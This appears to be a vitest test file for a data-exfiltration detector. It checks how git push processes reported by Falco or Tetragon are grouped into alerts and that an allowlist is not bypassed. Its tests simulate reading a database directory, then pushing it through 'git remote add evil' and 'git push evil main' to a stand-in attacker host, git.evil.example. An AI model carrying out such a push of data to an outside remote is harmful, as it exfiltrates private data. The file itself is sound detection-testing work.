/**
 * A push-shaped process joins a pending push of its tool by lineage; without it only when its event names
 * no parent at all and neither names another host, or when it is the stand-in made for its helper, seen
 * first because its own exec was lost. A second push from the same shell, or from a subshell whose fork no
 * sensor reports, is its own push: not hidden in an allowlisted one.
 */
import { describe, expect, it } from 'vitest';
import { MiB, type Proc, run, Scenario, TEST_DNS } from './builder.js';

const GITHUB_IP = TEST_DNS['github.com']![0]!;
const ATTACKER_IP = '203.0.113.66';

/** A process the sensor never reported (a bash subshell: fork, no exec), child of `p`. */
function forkedSubshell(p: Proc, falco: boolean): Proc {
  const pid = p.pid + 5000;
  return { ...p, pid, ppid: p.pid, execId: falco ? null : `clone-${pid}`, parentExecId: p.execId, containerPid: pid };
}

describe('a push-shaped process of the same tool joins a pending push', () => {
  it('helpers of one push still join: git push origin → git-remote-https origin URL (one alert)', () => {
    const s = new Scenario({ source: 'falco' });
    const c = s.container();
    const sh = s.init(c);
    s.readMany(sh, '/srv/db', 80, MiB);
    const g = s.exec(c, '/usr/bin/git', 'push origin main', { parent: sh });
    const h = s.exec(c, '/usr/lib/git-core/git-remote-https', 'origin https://github.com/acme/app.git', { parent: g });
    s.connect(h, GITHUB_IP, 443).send(h, GITHUB_IP, 443, 80 * MiB);
    const alerts = run(s.events).alerts;
    expect(alerts.map((a) => [a.push.tool, a.push.destination])).toEqual([['git', 'github.com']]);
  });

  for (const source of ['falco', 'tetragon'] as const) {
    for (const from of ['the same shell', 'a subshell no sensor reports'] as const) {
      it(`${source}: a second git push to a remote given by name, from ${from}, is not hidden in an allowlisted github.com push`, () => {
        const s = new Scenario({ source });
        const c = s.container({ namespace: 'ci' });
        const sh = s.init(c);
        s.readMany(sh, '/srv/db', 80, MiB);
        const url = 'https://github.com/acme/app.git';
        const g1 = s.exec(c, '/usr/bin/git', `push ${url} main`, { parent: sh });
        const h1 = s.exec(c, '/usr/lib/git-core/git-remote-https', `${url} ${url}`, { parent: g1 });
        s.connect(h1, GITHUB_IP, 443).send(h1, GITHUB_IP, 443, 10_000);
        s.wait(2000);
        // `git remote add evil https://git.evil.example/loot.git` earlier; the push names the remote only.
        const parent = from === 'the same shell' ? sh : forkedSubshell(sh, s.falco);
        const g2 = s.exec(c, '/usr/bin/git', 'push evil main', { parent });
        const h2 = s.exec(c, '/usr/lib/git-core/git-remote-https', 'evil https://git.evil.example/loot.git', {
          parent: g2,
        });
        s.connect(h2, ATTACKER_IP, 443).send(h2, ATTACKER_IP, 443, 80 * MiB);
        const allowlist = [{ namespace: 'ci', destination: 'github.com', reason: 'ci' }];
        expect(run(s.events, { allowlist }).alerts.map((a) => [a.push.destination, a.push.addresses])).toEqual([
          ['git.evil.example', [`${ATTACKER_IP}:443`]],
        ]);
      });
    }
  }

  it('Falco, the exec of `git push` lost (its helper seen first, git on its next event): one push, one alert', () => {
    const s = new Scenario({ source: 'falco' });
    const c = s.container({ namespace: 'prod' });
    const sh = s.init(c);
    s.readMany(sh, '/srv/db', 80, MiB);
    const g: Proc = {
      ...sh,
      pid: sh.pid + 7000,
      ppid: sh.pid,
      binary: '/usr/bin/git',
      args: 'push origin main',
      parentBinary: sh.binary,
      parentArgs: sh.args,
      containerPid: 77,
    };
    const h = s.exec(c, '/usr/lib/git-core/git-remote-https', 'origin https://github.com/acme/app.git', { parent: g });
    s.read(g, '/srv/app/.git/config', 400);
    s.connect(h, GITHUB_IP, 443).send(h, GITHUB_IP, 443, 80 * MiB);
    expect(run(s.events).alerts).toHaveLength(1);
  });
});
